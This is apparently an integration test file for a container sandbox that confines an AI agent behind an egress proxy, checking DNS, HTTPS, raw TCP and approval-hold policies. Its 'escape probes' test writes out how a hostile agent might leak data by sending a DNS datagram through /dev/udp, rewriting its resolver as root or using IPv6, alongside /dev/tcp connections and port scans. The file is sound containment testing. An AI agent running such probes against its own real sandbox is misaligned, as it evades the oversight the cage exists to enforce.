// Clients that ignore the proxy variables, in a real cage: the agent's lookups are answered by the proxy (every
// name → the proxy's cage address, nothing forwarded), so `curl --noproxy '*'` lands on the proxy's transparent
// listeners and gets the same policy, interception, 403 and events as a proxied client. And the escape probes a
// hostile agent would try next: DNS to a server of its choice, raw UDP, IPv6.
import assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { after, before, describe, it } from 'node:test';
import type Docker from 'dockerode';
import { EGRESS_NETWORK, names, type CageEngine, type CageInfo, type ProxyEvent } from '../../src/engine';
import { esc, makeEngine, makeWorkspace, NODE_IMAGE, prepare, runCli, startUpstream, tearDownCage, TEST_LABEL, tmpDir, type Upstream, waitForEvent } from './setup';

// Host names only this file puts on the shared egress network (see test/shared/upstream.ts).
const ALLOWED = 'allowed.i19tp.test';
const BLOCKED = 'blocked.i19tp.test';
const OUTSIDE = 'caged-agent-test-i19tp-outside';
// Names of the outside server: one a raw TCP rule allows, one no rule names.
const ECHO = 'echo.i19tp.test';
const DB = 'db.i19tp.test';
// Held (onUnknown: ask) through the transparent path: one released once, one denied.
const HELD = 'held.i19tp.test';
const HELD_DENIED = 'held-denied.i19tp.test';
const ECHO_PORT = 7007;

// A server of the agent's choosing on the egress network: it logs every UDP datagram it gets on 53 and 5353;
// and a TCP echo server (7007) and a TCP listener that logs connections (5432, 7008) for the raw TCP rules.
const OUTSIDE_SCRIPT = `
const dgram = require('dgram'), net = require('net');
net.createServer((s) => s.pipe(s)).listen(${ECHO_PORT});
for (const port of [5432, 7008]) net.createServer((s) => { console.log('tcp ' + port + ' from ' + s.remoteAddress); s.end(); }).listen(port);
for (const port of [53, 5353]) {
  const u = dgram.createSocket('udp4');
  u.on('message', (m, r) => console.log('udp ' + port + ' from ' + r.address + ' ' + m.length));
  u.bind(port);
}
setTimeout(() => console.log('outside listening'), 200);
`;

describe('transparent capture in a real cage', { timeout: 240_000 }, () => {
  let engine: CageEngine;
  let docker: Docker;
  let stateDir: string;
  let ws: string;
  let upstream: Upstream;
  let outside: Docker.Container | undefined;
  let outsideIp = '';
  let cage: CageInfo;
  let proxyIp = '';
  const events: ProxyEvent[] = [];
  let stopEvents: (() => void) | undefined;

  const sh = (script: string) => engine.exec(cage.id, ['bash', '-c', script]);
  const waitEvent = (pred: (e: ProxyEvent) => boolean) => waitForEvent(events, pred);

  before(async () => {
    prepare();
    stateDir = tmpDir('caged-state-i19-');
    ws = makeWorkspace('caged-i19-ws-', `version: 1\nallow:\n  - host: ${ALLOWED}\n    private: true   # the test upstream is on a Docker bridge\n  - host: ${ECHO}\n    tcp: [${ECHO_PORT}]\n    private: true\n`);
    engine = makeEngine(stateDir);
    docker = engine.docker;
    await engine.down(engine.cageIdFor(ws));
    upstream = await startUpstream(docker, engine, { name: 'caged-agent-test-i19tp-upstream', hosts: [ALLOWED, BLOCKED, HELD, HELD_DENIED] });
    await docker.getContainer(OUTSIDE).remove({ force: true }).catch(() => undefined);
    outside = await docker.createContainer({
      name: OUTSIDE,
      Image: NODE_IMAGE,
      Entrypoint: ['node', '-e', OUTSIDE_SCRIPT],
      Cmd: [],
      Labels: { [TEST_LABEL]: '1' },
      HostConfig: { NetworkMode: EGRESS_NETWORK },
      NetworkingConfig: { EndpointsConfig: { [EGRESS_NETWORK]: { Aliases: [ECHO, DB] } } },
    } as Docker.ContainerCreateOptions);
    await outside.start();
    outsideIp = (await outside.inspect()).NetworkSettings.Networks[EGRESS_NETWORK].IPAddress;
    cage = await engine.up({ workspace: ws, upstreamCaPem: upstream.caPem });
    proxyIp = (await docker.getContainer(cage.proxyContainerId!).inspect()).NetworkSettings.Networks[names.network(cage.id)].IPAddress;
    const sub = await engine.events(cage.id, (e) => events.push(e));
    stopEvents = () => sub.stop();
  });

  after(async () => {
    stopEvents?.();
    await tearDownCage(engine, ws, stateDir, upstream?.stop, () => outside?.remove({ force: true }));
  });

  it("the agent's DNS server is the proxy, which still answers caged-proxy and every other name with itself", async () => {
    const agent = await docker.getContainer(cage.agentContainerId!).inspect();
    assert.deepEqual(agent.HostConfig.Dns, [proxyIp]);
    for (const name of ['caged-proxy', ALLOWED, BLOCKED, 'anything.example.org', OUTSIDE]) {
      const r = await engine.exec(cage.id, ['getent', 'ahostsv4', name]);
      assert.equal(r.exitCode, 0, `${name}: ${r.stderr}`);
      const addrs = [...new Set(r.stdout.trim().split('\n').map((l) => l.split(/\s+/)[0]))];
      assert.deepEqual(addrs, [proxyIp], `${name} resolves to the proxy only (the upstream is at ${upstream.ip}, the outside server at ${outsideIp})`);
    }
    // No IPv6 answers: the cage network has no IPv6, and clients fall back to IPv4 at once.
    const v6 = await engine.exec(cage.id, ['getent', 'ahostsv6', ALLOWED]);
    assert.ok(!/:/.test(v6.stdout.split(/\s+/)[0] ?? '') || v6.stdout.includes(`::ffff:${proxyIp}`), `no real AAAA answer: ${v6.stdout}`);
  });

  it("curl --noproxy '*' to an allowed host: 200 through interception, with the cage certificate", async () => {
    const r = await engine.exec(cage.id, ['curl', '--noproxy', '*', '-sS', '-v', `https://${ALLOWED}/direct?x=1`]);
    assert.equal(r.exitCode, 0, r.stderr);
    assert.equal(r.stdout, `hello from ${ALLOWED} GET /direct?x=1\n`);
    assert.match(r.stderr, new RegExp(`issuer: CN=Caged Agent CA ${cage.id}`));
    const e = await waitEvent((x) => x.type === 'allow' && x.host === ALLOWED && x.path === '/direct');
    assert.equal(e.type === 'allow' && e.port, 443);
    assert.equal(e.type === 'allow' && e.via, 'transparent', 'the event says the client ignored the proxy settings');
    const plain = await engine.exec(cage.id, ['curl', '--noproxy', '*', '-sS', `http://${ALLOWED}/plain`]);
    assert.equal(plain.stdout, `hello from ${ALLOWED} GET /plain\n`);
  });

  it("curl --noproxy '*' to a blocked host: 403 with the reason, and a block event with method and path", async () => {
    const r = await engine.exec(cage.id, ['curl', '--noproxy', '*', '-sS', '-D', '-', '-o', '/dev/null', '-X', 'PUT', `https://${BLOCKED}/v1/thing`]);
    assert.match(r.stdout, /^HTTP\/1\.1 403/m);
    assert.match(r.stdout, /^x-caged-agent-block: no-matching-rule/im);
    const e = await waitEvent((x) => x.type === 'block' && x.host === BLOCKED);
    assert.equal(e.type === 'block' && e.reason, 'no-matching-rule');
    assert.equal(e.type === 'block' && e.method, 'PUT');
    assert.equal(e.type === 'block' && e.path, '/v1/thing');
    const plain = await engine.exec(cage.id, ['curl', '--noproxy', '*', '-sS', '-D', '-', '-o', '/dev/null', `http://${BLOCKED}/p`]);
    assert.match(plain.stdout, /^HTTP\/1\.1 403/m);
  });

  it('escape probes: DNS to a server of its choice, raw UDP and IPv6 reach nothing', async () => {
    // A DNS query (and any UDP) sent straight to the outside server: no route from the cage network.
    const query = '\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00\\x04leak\\x07example\\x00\\x00\\x01\\x00\\x01';
    await sh(`for p in 53 5353; do printf '${query}' > /dev/udp/${outsideIp}/$p; done 2>&1`);
    // The agent is root in its container: it points its resolver at the outside server and asks.
    const own = await sh(`cp /etc/resolv.conf /tmp/resolv.bak; printf 'nameserver ${outsideIp}\\noptions timeout:1 attempts:1\\n' > /etc/resolv.conf; getent hosts leak2.example; echo "exit $?"; cp /tmp/resolv.bak /etc/resolv.conf`);
    assert.match(own.stdout, /exit [12]/, `the lookup through a chosen server failed: ${own.stdout}`);
    // IPv6: no address, no route.
    const v6 = await engine.exec(cage.id, ['curl', '-6', '--noproxy', '*', '-sS', '-o', '/dev/null', '--connect-timeout', '3', `https://${ALLOWED}/`]);
    assert.notEqual(v6.exitCode, 0, 'no IPv6 way out');
    // The outside server heard nothing at all.
    await new Promise((r) => setTimeout(r, 500));
    const log = String(await outside!.logs({ stdout: true, stderr: true } as Docker.ContainerLogsOptions & { follow?: false }));
    assert.match(log, /outside listening/);
    assert.doesNotMatch(log, /udp \d+ from/, `the outside server got a datagram from the cage: ${log}`);
    // And the cage still resolves through the proxy after the agent restored its resolver.
    const again = await engine.exec(cage.id, ['getent', 'ahostsv4', 'after.example']);
    assert.match(again.stdout, new RegExp(`^${esc(proxyIp)}\\s`));
  });

  it('raw TCP: a rule\'s port connects to the named host through the proxy; without a rule it is refused with an event', async () => {
    // bash's /dev/tcp looks the name up and connects, as any client would: unchanged.
    const ok = await sh(`exec 3<>/dev/tcp/${ECHO}/${ECHO_PORT} && echo 'hello over tcp' >&3 && read -t 5 line <&3 && echo "got: $line"`);
    assert.equal(ok.stdout.trim(), 'got: hello over tcp', ok.stderr);
    const allow = await waitEvent((x) => x.type === 'allow' && x.host === ECHO && x.method === 'TCP');
    assert.equal(allow.type === 'allow' && allow.port, ECHO_PORT);
    assert.equal(allow.type === 'allow' && allow.via, 'tcp');
    // A watched port without a rule: the proxy takes the connection, records the block and closes it.
    const blocked = await sh(`exec 3<>/dev/tcp/${DB}/5432 && read -t 5 line <&3; echo "exit $?"`);
    assert.match(blocked.stdout, /exit [1-9]/);
    const block = await waitEvent((x) => x.type === 'block' && x.host === DB && x.method === 'TCP');
    assert.equal(block.type === 'block' && block.reason, 'no-matching-rule');
    assert.equal(block.type === 'block' && block.port, 5432);
    // A port no rule names and nobody watches: nothing listens there, the connection is refused.
    const unlisted = await sh(`exec 3<>/dev/tcp/${DB}/7008; echo "exit $?"`);
    assert.match(unlisted.stdout, /exit 1/);
    assert.match(unlisted.stderr, /refused/i);
    const log = String(await outside!.logs({ stdout: true, stderr: true } as Docker.ContainerLogsOptions & { follow?: false }));
    assert.doesNotMatch(log, /tcp (5432|7008) from/, `nothing without a rule reached the outside: ${log}`);
  });

  it("the proxy's listeners are on its cage address only: from the egress network its 53, 80, 443, 3128 and raw TCP ports are closed", async () => {
    const proxy = await docker.getContainer(cage.proxyContainerId!).inspect();
    const egressIp = proxy.NetworkSettings.Networks[EGRESS_NETWORK].IPAddress;
    assert.ok(egressIp && egressIp !== proxyIp);
    // From a container of the test's own on the egress network (where other cages' proxies and the outside are).
    const probe = `
const net = require('net'), dgram = require('dgram');
const tcp = (host, port) => new Promise((res) => { const s = net.connect(port, host); s.setTimeout(3000, () => { s.destroy(); res('timeout'); }); s.on('connect', () => { s.destroy(); res('open'); }); s.on('error', (e) => res(e.code)); });
const udp = (host) => new Promise((res) => { const u = dgram.createSocket('udp4'); const t = setTimeout(() => { u.close(); res('no answer'); }, 1500);
  u.on('message', () => { clearTimeout(t); u.close(); res('answered'); }); u.on('error', (e) => { clearTimeout(t); u.close(); res(e.code); });
  u.send(Buffer.from('12340100000100000000000004746573740000010001', 'hex'), 53, host); });
(async () => { const out = {}; for (const host of process.argv.slice(1)) { out[host] = { udp53: await udp(host) };
  for (const p of [53, 80, 443, 3128, ${ECHO_PORT}, 22]) out[host][p] = await tcp(host, p); } console.log(JSON.stringify(out)); })();`;
    const exec = await outside!.exec({ Cmd: ['node', '-e', probe, egressIp], AttachStdout: true, AttachStderr: true });
    const stream = await exec.start({});
    const chunks: Buffer[] = [];
    stream.on('data', (d: Buffer) => chunks.push(d));
    await new Promise((r) => stream.on('end', r));
    const text = Buffer.concat(chunks).toString('latin1');
    const result = JSON.parse(text.slice(text.indexOf('{'), text.lastIndexOf('}') + 1))[egressIp];
    assert.deepEqual(result, { udp53: 'no answer', 53: 'ECONNREFUSED', 80: 'ECONNREFUSED', 443: 'ECONNREFUSED', 3128: 'ECONNREFUSED', [ECHO_PORT]: 'ECONNREFUSED', 22: 'ECONNREFUSED' }, `from the egress side: ${text}`);
    // The agent's side still has all of them (the explicit proxy, DNS, 443 and the raw TCP rule were used above).
    const agentSide = await sh(`for p in 53 80 443 3128 ${ECHO_PORT} 22; do (exec 3<>/dev/tcp/${proxyIp}/$p) 2>/dev/null && echo "$p open"; done`);
    assert.deepEqual(agentSide.stdout.trim().split('\n'), ['53 open', '80 open', '443 open', '3128 open', `${ECHO_PORT} open`, '22 open']);
  });

  it('verify: the no-proxy checks pass (allowed succeeds, blocked is refused), lookups are answered by the proxy, the TCP rule connects, an unlisted port does not', async () => {
    const checks = await engine.verify(cage.id, { allowedUrl: `https://${ALLOWED}/`, blockedUrl: `https://${BLOCKED}/`, externalName: 'verify.example.org' });
    for (const c of checks) console.log(`# ${c.ok ? 'PASS' : 'FAIL'} ${c.name}: ${c.detail}`);
    assert.deepEqual(checks.filter((c) => !c.ok).map((c) => c.name), []);
    const byName = new Set(checks.map((c) => c.name));
    for (const n of [
      'lookups are answered by the proxy',
      'a blocked host gets 403 (a client that ignores the proxy settings)',
      'an allowed URL succeeds (a client that ignores the proxy settings)',
      "a raw TCP rule's port connects", // found in the policy: echo...:7007
      'an unlisted TCP port does not connect',
    ]) assert.ok(byName.has(n), n);
    // The lookup check sends no request: nothing shows up as blocked in the editor for it.
    await new Promise((r) => setTimeout(r, 300));
    assert.ok(!events.some((e) => e.type === 'block' && e.host === 'verify.example.org'), 'no block event for the lookup check');
  });

  it("onUnknown: ask holds a client that ignores the proxy settings: pending, allow --once answers it, deny gives 403", async () => {
    const cli = (args: string[]) => runCli(args, ws, stateDir);
    const direct = (url: string) => engine.exec(cage.id, ['sh', '-c', `curl --noproxy '*' -sS --max-time 40 -w '\\n%{http_code}' ${url}`], { timeoutMs: 60_000 });
    const waitPending = async (host: string) => {
      for (let i = 0; i < 100; i++) {
        if ((await engine.pending(cage.id)).pending.some((g) => g.host === host)) return;
        await new Promise((r) => setTimeout(r, 200));
      }
      assert.fail(`no request to ${host} was held`);
    };
    const original = fs.readFileSync(path.join(ws, '.caged', 'policy.yaml'), 'utf8');
    const pushed = await engine.pushPolicy(cage.id, original.replace('version: 1\n', 'version: 1\nonUnknown: ask\naskTimeout: 30\n'));
    assert.equal(pushed.ok, true, JSON.stringify(pushed));
    try {
      const held = direct(`https://${HELD}/waits?x=1`);
      await waitPending(HELD);
      const p = await cli(['pending', cage.id]);
      assert.match(p.stdout, new RegExp(`^${esc(HELD)}:443 {2}1 waiting, first GET /waits`, 'm'), p.stdout + p.stderr);
      const a = await cli(['allow', HELD, '--once', '--private', '--cage', cage.id]);
      assert.equal(a.code, 0, a.stderr);
      const r = await held;
      assert.equal(r.stdout, `hello from ${HELD} GET /waits?x=1\n\n200`, r.stderr);
      const e = await waitEvent((x) => x.type === 'allow' && x.host === HELD);
      assert.equal(e.type === 'allow' && e.via, 'transparent');

      const refused = direct(`https://${HELD_DENIED}/nope`);
      await waitPending(HELD_DENIED);
      const d = await cli(['deny', HELD_DENIED, '--once', cage.id]);
      assert.equal(d.code, 0, d.stderr);
      const rr = await refused;
      assert.match(rr.stdout, /The user denied[\s\S]*\n403$/, rr.stdout);
      const be = await waitEvent((x) => x.type === 'block' && x.host === HELD_DENIED);
      assert.equal(be.type === 'block' && be.via, 'transparent');
    } finally {
      assert.equal((await engine.pushPolicy(cage.id, original)).ok, true);
    }
  });

  it("the proxy keeps its cage address across a restart: the agent's lookups and no-proxy fetches work right after", async () => {
    const proxy = docker.getContainer(cage.proxyContainerId!);
    // While the proxy is down, another container on the cage network takes the next free address; the proxy's stays its own.
    await proxy.stop({ t: 1 });
    const squatter = await docker.createContainer({
      name: 'caged-agent-test-i19tp-squatter', Image: NODE_IMAGE, Entrypoint: ['node', '-e', 'setTimeout(() => {}, 60000)'], Cmd: [], Labels: { [TEST_LABEL]: '1' },
      HostConfig: { NetworkMode: names.network(cage.id) },
    } as Docker.ContainerCreateOptions);
    try {
      await squatter.start();
      const squatterIp = (await squatter.inspect()).NetworkSettings.Networks[names.network(cage.id)].IPAddress;
      assert.notEqual(squatterIp, proxyIp);
      await proxy.start();
      assert.equal((await proxy.inspect()).NetworkSettings.Networks[names.network(cage.id)].IPAddress, proxyIp, `the proxy came back at its address (another container got ${squatterIp})`);
      await proxy.restart({ t: 1 });
      assert.equal((await proxy.inspect()).NetworkSettings.Networks[names.network(cage.id)].IPAddress, proxyIp);
      // The listeners come up within moments; the agent's resolver (pointed at the proxy at create time) still answers.
      let r = { exitCode: -1, stdout: '', stderr: '' };
      for (let i = 0; i < 40 && r.exitCode !== 0; i++) {
        r = await engine.exec(cage.id, ['curl', '--noproxy', '*', '-sS', '--max-time', '3', `https://${ALLOWED}/after-restart`]);
        if (r.exitCode !== 0) await new Promise((res) => setTimeout(res, 250));
      }
      assert.equal(r.stdout, `hello from ${ALLOWED} GET /after-restart\n`, r.stderr);
      const lookup = await engine.exec(cage.id, ['getent', 'ahostsv4', 'after-restart.example']);
      assert.match(lookup.stdout, new RegExp(`^${esc(proxyIp)}\\s`));
      // Docker's own health check (it asks caged-proxy:3128, the cage address) passes on the restarted proxy.
      let health: string | undefined;
      for (let i = 0; i < 60 && health !== 'healthy'; i++) {
        health = (await proxy.inspect()).State.Health?.Status;
        if (health !== 'healthy') await new Promise((res) => setTimeout(res, 250));
      }
      assert.equal(health, 'healthy');
    } finally {
      await squatter.remove({ force: true }).catch(() => undefined);
    }
  });
});
